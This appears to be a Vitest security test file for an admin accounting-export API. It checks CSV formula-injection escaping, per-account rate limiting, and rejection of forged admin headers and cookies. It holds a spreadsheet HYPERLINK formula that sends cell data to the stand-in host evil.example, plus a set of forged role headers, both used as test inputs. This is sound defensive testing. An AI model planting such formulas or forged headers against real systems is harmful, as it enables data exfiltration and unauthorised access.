import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ACCOUNTING_RATE_LIMIT } from '#server/features/accounting/accounting.routes.ts';
import {
  csvRecords,
  csvTable,
  kycApprovedTrainer,
  PAYOUT_FRIDAY,
  paidOutWeek,
} from '#server/features/accounting/accounting-scenarios.ts';
import { signUpAdmin } from '#server/test/accounts.ts';
import { createTestContext, type TestContext } from '#server/test/test-app.ts';
import { MESSAGES } from '#shared/messages.ts';

/**
 * The admin's money exports played as an attacker would: a trainer who types a spreadsheet
 * formula as their name, a flood of downloads, and a caller who claims to be an admin.
 */
const NOW = '2026-03-02T04:30:00.000Z';
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Open PAN")';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext({ now: NOW, env: { TDS_194O_EXEMPTION_RUPEES: '0' } });
});
afterAll(() => ctx.close());

const get = (url: string, token?: string, headers: Record<string, string> = {}) =>
  ctx.request({ method: 'GET', url, token, headers });

describe('a trainer’s name written as a formula', () => {
  it('reaches the accountant’s spreadsheet as text, never as a formula', async () => {
    const admin = await signUpAdmin(ctx);
    const trainer = await kycApprovedTrainer(ctx, admin.token, {
      firstName: 'Kabir',
      lastName: 'Rao',
      pan: 'ABCPR1234F',
      panName: FORMULA_NAME,
    });
    await paidOutWeek(ctx, trainer.trainerId);
    ctx.clock.set(PAYOUT_FRIDAY);

    const response = await get('/api/admin/exports/26q?year=2025-26&quarter=4', admin.token);
    expect(response.statusCode).toBe(200);
    const [row] = csvTable(response.body);
    expect(row?.['Name of the Deductee']).toBe(`'${FORMULA_NAME}`);
    const cells = csvRecords(response.body).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});

describe('a flood of exports from one account', () => {
  it(`answers 429 beyond ${ACCOUNTING_RATE_LIMIT.max} a minute, and only to that account`, async () => {
    ctx.clock.set(NOW);
    const flooder = await signUpAdmin(ctx);
    const answers = await Promise.all(
      Array.from({ length: ACCOUNTING_RATE_LIMIT.max + 5 }, () =>
        get('/api/admin/exports/gstr8?month=2026-03', flooder.token),
      ),
    );
    const refused = answers.filter((answer) => answer.statusCode === 429);
    expect(refused).toHaveLength(5);
    expect(refused[0]?.json().message).toBe(MESSAGES.tooManyRequests);
    expect(answers.filter((answer) => answer.statusCode === 200)).toHaveLength(
      ACCOUNTING_RATE_LIMIT.max,
    );
    // the other exports share the allowance
    expect((await get('/api/admin/reconciliation', flooder.token)).statusCode).toBe(429);

    const colleague = await signUpAdmin(ctx);
    expect((await get('/api/admin/reconciliation', colleague.token)).statusCode).toBe(200);
  });
});

describe('a caller who claims to be an admin', () => {
  const FORGED = {
    'x-user-role': 'admin',
    'x-role': 'admin',
    'x-admin': 'true',
    'x-forwarded-user': 'admin@kasrat.test',
    cookie: 'role=admin; isAdmin=true',
  };

  it('is still who their session says: a client gets 403, no session 401', async () => {
    ctx.clock.set(NOW);
    const client = await ctx.signUp();
    for (const url of [
      '/api/admin/reconciliation',
      '/api/admin/exports/26q?year=2025-26&quarter=4',
    ]) {
      const asClient = await get(url, client.token, FORGED);
      expect(asClient.statusCode).toBe(403);
      expect(asClient.json().message).toBe(MESSAGES.forbidden);
      expect(asClient.body).not.toContain('ABCPR1234F');

      const signedOut = await get(url, undefined, FORGED);
      expect(signedOut.statusCode).toBe(401);
      expect(signedOut.json().message).toBe(MESSAGES.signInRequired);

      const madeUp = await get(url, 'admin-token-i-made-up', FORGED);
      expect(madeUp.statusCode).toBe(401);
    }
  });
});
